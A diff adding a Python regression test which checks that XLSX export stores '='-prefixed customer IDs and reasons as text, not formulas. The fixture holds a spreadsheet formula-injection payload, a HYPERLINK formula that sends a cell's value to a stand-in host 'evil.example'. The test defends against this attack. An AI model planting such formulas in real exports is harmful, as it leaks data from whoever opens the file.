@@ -124,3 +124,16 @@ def test_a_write_removes_what_killed_writers_of_this_host_left(tmp_path: Path) -
     finally:
         running.kill()
         running.wait()
+
+
+def test_xlsx_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    # openpyxl wrote a customer id or reason starting with "=" as a formula: the retention list
+    # ran =HYPERLINK("http://...?"&A3, ...) in the marketer's Excel and showed "=1+1" as 2.
+    import openpyxl
+
+    frame = pd.DataFrame({"customer_id": ['=HYPERLINK("http://evil.example/?"&A3,"Click")', "=1+1", "C1"],
+                          "reasons": ["a", "=2*3", "x"], "churn_probability": [0.5, 0.25, 0.125]})
+    io.write_table(frame, tmp_path / "list.xlsx")
+    rows = list(openpyxl.load_workbook(tmp_path / "list.xlsx").active.iter_rows(min_row=2))
+    assert [[cell.data_type for cell in row] for row in rows] == [["s", "s", "n"]] * 3
+    assert io.read_table(tmp_path / "list.xlsx")["customer_id"].tolist() == frame["customer_id"].tolist()
